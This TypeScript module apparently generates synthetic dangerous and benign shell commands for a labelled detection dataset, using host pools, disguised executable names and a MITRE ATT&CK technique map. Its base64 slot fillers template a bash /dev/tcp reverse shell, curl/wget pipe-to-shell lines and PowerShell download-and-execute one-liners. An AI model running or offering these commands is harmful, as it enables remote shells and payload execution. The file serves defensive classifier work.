import type { Rng } from './rng.js';

/**
 * Value pools for the slots in command and template strings. Dangerous and benign commands
 * draw hosts from the same pools, so a host name says nothing about the label.
 */

export const DOMAINS = [
  'cdn-updates.net', 'get.devkit.sh', 'pkg-mirror.io', 'dl.fastsync.app', 'update.winhelper.co',
  'files.pastehub.org', 'static.cloud-cdn.xyz', 'install.termtools.dev', 'api.metrics-relay.com',
  'mirror.opsbox.net', 'download.nodecache.io', 'releases.buildkite-tools.com', 'assets.acme-corp.com',
  'repo.internal.example.com', 'api.example.com', 'tools.example.org', 'get.fluxctl.dev',
  'scripts.helpdesk-portal.com', 'raw.githubusercontent.com/acme-tools/setup/main',
  'gist.githubusercontent.com/jdoe42/8f3ea1/raw', 'storage.googleapis.com/ops-bootstrap',
  's3.amazonaws.com/deploy-artifacts-eu', 'cdn.jsdelivr.net/gh/kitops/agent', 'bootstrap.clusterkit.io',
  'sync.office-update.com', 'telemetry.devmetrics.app', 'pkg.linuxtools.org', 'dl.vpn-connect.net',
  'files.sharepoint-docs.net', 'status.cloudpanel.io', 'portal.it-support.help', 'api.staging.shopline.dev',
];

export const SH_SCRIPTS = ['install.sh', 'setup.sh', 'bootstrap.sh', 'fix.sh', 'agent.sh', 'update.sh', 'i.sh', 'run.sh', 'patch.sh', 'init.sh', 'get.sh', 'repair.sh', 'tune.sh'];
export const PS_SCRIPTS = ['install.ps1', 'setup.ps1', 'fix.ps1', 'update.ps1', 'agent.ps1', 'repair.ps1', 'a.ps1', 'bootstrap.ps1', 'patch.ps1'];
export const EXES = ['update.exe', 'svchost32.exe', 'agent.exe', 'setup.exe', 'helper.exe', 'OneDriveSync.exe', 'winupd.exe', 'patch.exe', 'rdpclip64.exe'];
export const BINS = ['kworker', 'sysd', 'agent', 'xmr', 'dbus-helper', 'updater', 'netd', 'cache', 'x'];
export const DLLS = ['msupdate.dll', 'helper.dll', 'sync.dll', 'loader.dll', 'core64.dll'];
export const USERS = ['root', 'admin', 'ubuntu', 'deploy', 'ec2-user', 'www-data', 'svc_backup', 'jenkins', 'ops', 'support'];
export const SERVICES = ['nginx', 'sync-agent', 'dbus-helper', 'node-exporter', 'update-check', 'netmon', 'backup', 'postgresql', 'redis', 'docker'];
export const TASKS = ['OneDriveUpdate', 'GoogleUpdateTaskCore', 'SysHealthCheck', 'WindowsCacheSvc', 'AdobeSync', 'EdgeUpdateMachine'];
export const REGNAMES = ['Updater', 'OneDriveSync', 'SecurityHealth2', 'TeamsHelper', 'JavaUpdate'];
export const DEVICES = ['sda', 'sdb', 'nvme0n1', 'vda', 'xvda', 'sda1', 'nvme0n1p2', 'mmcblk0'];
export const PODS = ['kube-proxy-7xk2p', 'coredns-5d78c9869d-q4vzl', 'etcd-master-1', 'aws-node-9hj2k', 'calico-node-lm8fd', 'metrics-server-6d94bc8694-wp2cx'];
export const ROLES = ['ec2-app-role', 'prod-deployer', 'eks-node-role', 'ci-runner', 'webapp-instance'];
export const PORTS = ['4444', '443', '8080', '9001', '1337', '53', '8443', '5555', '31337', '80', '6666', '7777', '9999', '2222'];
export const ORGS = ['a logistics company', 'a regional hospital', 'a SaaS startup', 'a university lab', 'a retail chain', 'a managed service provider', 'a fintech company', 'a game studio'];
export const PRODUCTS = ['Confluence', 'Jenkins', 'GitLab', 'Citrix ADC', 'an Exchange server', 'a WordPress plugin', 'Apache Struts', 'an Ivanti VPN appliance', 'TeamCity', 'a Log4j-based service'];
export const TECH_NAMES: Record<string, string> = {
  T1059: 'Command and Scripting Interpreter',
  'T1059.001': 'PowerShell',
  'T1059.003': 'Windows Command Shell',
  'T1059.004': 'Unix Shell',
  'T1059.006': 'Python',
  T1105: 'Ingress Tool Transfer',
  T1485: 'Data Destruction',
  T1490: 'Inhibit System Recovery',
  T1561: 'Disk Wipe',
  T1499: 'Endpoint Denial of Service',
  T1222: 'File and Directory Permissions Modification',
  'T1053.003': 'Scheduled Task/Job: Cron',
  'T1053.005': 'Scheduled Task/Job: Scheduled Task',
  'T1543.002': 'Create or Modify System Process: Systemd Service',
  'T1546.004': 'Event Triggered Execution: Unix Shell Configuration Modification',
  'T1546.003': 'Event Triggered Execution: WMI Event Subscription',
  'T1098.004': 'Account Manipulation: SSH Authorized Keys',
  'T1547.001': 'Boot or Logon Autostart Execution: Registry Run Keys',
  'T1136.001': 'Create Account: Local Account',
  'T1003.001': 'OS Credential Dumping: LSASS Memory',
  'T1003.002': 'OS Credential Dumping: Security Account Manager',
  'T1003.003': 'OS Credential Dumping: NTDS',
  'T1003.008': 'OS Credential Dumping: /etc/passwd and /etc/shadow',
  'T1552.001': 'Unsecured Credentials: Credentials In Files',
  'T1552.004': 'Unsecured Credentials: Private Keys',
  'T1552.005': 'Unsecured Credentials: Cloud Instance Metadata API',
  'T1555.003': 'Credentials from Web Browsers',
  'T1562.001': 'Impair Defenses: Disable or Modify Tools',
  'T1562.004': 'Impair Defenses: Disable or Modify System Firewall',
  'T1562.012': 'Impair Defenses: Disable or Modify Linux Audit System',
  'T1070.001': 'Indicator Removal: Clear Windows Event Logs',
  'T1070.003': 'Indicator Removal: Clear Command History',
  'T1027': 'Obfuscated Files or Information',
  'T1218.011': 'System Binary Proxy Execution: Rundll32',
  'T1218.010': 'System Binary Proxy Execution: Regsvr32',
  'T1218.005': 'System Binary Proxy Execution: Mshta',
  'T1218.007': 'System Binary Proxy Execution: Msiexec',
  'T1197': 'BITS Jobs',
  'T1047': 'Windows Management Instrumentation',
  'T1611': 'Escape to Host',
  'T1609': 'Container Administration Command',
  'T1098': 'Account Manipulation',
  T1037: 'Boot or Logon Initialization Scripts',
  'T1070.002': 'Indicator Removal: Clear Linux or Mac System Logs',
  'T1548.003': 'Abuse Elevation Control Mechanism: Sudo and Sudo Caching',
  'T1218': 'System Binary Proxy Execution',
  'T1140': 'Deobfuscate/Decode Files or Information',
  T1033: 'System Owner/User Discovery',
  T1082: 'System Information Discovery',
  T1057: 'Process Discovery',
  T1049: 'System Network Connections Discovery',
  T1016: 'System Network Configuration Discovery',
  'T1069.001': 'Permission Groups Discovery: Local Groups',
  'T1069.002': 'Permission Groups Discovery: Domain Groups',
  T1083: 'File and Directory Discovery',
  'T1087.001': 'Account Discovery: Local Account',
  'T1087.002': 'Account Discovery: Domain Account',
  T1018: 'Remote System Discovery',
  T1482: 'Domain Trust Discovery',
  T1135: 'Network Share Discovery',
};

/** A public-looking IPv4 address (documentation ranges, private ranges, and random ones). */
export function ipv4(r: Rng): string {
  const kind = r.int(0, 5);
  if (kind === 0) return `203.0.113.${r.int(2, 254)}`;
  if (kind === 1) return `198.51.100.${r.int(2, 254)}`;
  if (kind === 2) return `10.${r.int(0, 30)}.${r.int(0, 255)}.${r.int(2, 254)}`;
  if (kind === 3) return `192.168.${r.int(0, 10)}.${r.int(2, 254)}`;
  return `${r.pick([45, 85, 91, 104, 139, 141, 146, 152, 167, 178, 185, 193, 212])}.${r.int(1, 254)}.${r.int(0, 255)}.${r.int(2, 254)}`;
}

function b64(s: string): string {
  return Buffer.from(s, 'utf8').toString('base64');
}

function b64ps(s: string): string {
  return Buffer.from(s, 'utf16le').toString('base64');
}

/** Slot fillers: `«name»` in a command string. Values are fixed per row (see `Slots`). */
const FILLERS: Record<string, (r: Rng, s: Slots) => string> = {
  host: (r) => r.pick(DOMAINS),
  hostname: (_r, s) => s.get('host').split('/')[0]!,
  ip: (r) => ipv4(r),
  ip2: (r) => ipv4(r),
  port: (r) => r.pick(PORTS),
  url: (r, s) => `${r.pick(['https', 'https', 'http'])}://${s.get('host')}/${r.pick(SH_SCRIPTS)}`,
  psurl: (r, s) => `${r.pick(['https', 'http'])}://${s.get('host')}/${r.pick(PS_SCRIPTS)}`,
  exeurl: (r, s) => `http://${s.get('host')}/${s.get('exe')}`,
  htaurl: (r, s) => `http://${s.get('host')}/${r.pick(['update', 'invoice', 'doc', 'setup'])}.hta`,
  scturl: (r, s) => `http://${s.get('host')}/${r.pick(['file', 'reg', 'x', 'comp'])}.sct`,
  msiurl: (r, s) => `http://${s.get('host')}/${r.pick(['setup', 'agent', 'update'])}.msi`,
  pyurl: (r, s) => `https://${s.get('host')}/${r.pick(['p.py', 'setup.py', 'helper.py', 'x.py'])}`,
  upurl: (r, s) => `https://${s.get('host')}/${r.pick(['upload', 'u', 'api/collect', 'in'])}`,
  exe: (r) => r.pick(EXES),
  bin: (r) => r.pick(BINS),
  dll: (r) => r.pick(DLLS),
  user: (r) => r.pick(USERS),
  svc: (r) => r.pick(SERVICES),
  task: (r) => r.pick(TASKS),
  reg: (r) => r.pick(REGNAMES),
  dev: (r) => r.pick(DEVICES),
  pod: (r) => r.pick(PODS),
  role: (r) => r.pick(ROLES),
  pid: (r) => String(r.int(400, 1200)),
  key: (r) => Array.from({ length: 43 }, () => r.pick([...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'])).join(''),
  b64: (r, s) => b64(r.pick([`bash -i >& /dev/tcp/${s.get('ip')}/${s.get('port')} 0>&1`, `curl -s ${s.get('url')} | sh`, `wget -qO- ${s.get('url')} | bash`])),
  b64ps: (r, s) => b64ps(r.pick([`iex (New-Object Net.WebClient).DownloadString('${s.get('psurl')}')`, `iwr ${s.get('psurl')} -UseBasicParsing | iex`])),
};

/** Slot values for one row: each name is drawn once, so `«ip»` twice reads the same. */
export class Slots {
  private readonly values = new Map<string, string>();
  constructor(private readonly r: Rng) {}

  get(name: string): string {
    let v = this.values.get(name);
    if (v === undefined) {
      const f = FILLERS[name];
      if (!f) throw new Error(`unknown slot «${name}»`);
      v = f(this.r, this);
      this.values.set(name, v);
    }
    return v;
  }

  /** Replaces every `«name»` in a string. */
  fill(s: string): string {
    return s.replace(/«(\w+)»/g, (_, name: string) => this.get(name));
  }
}
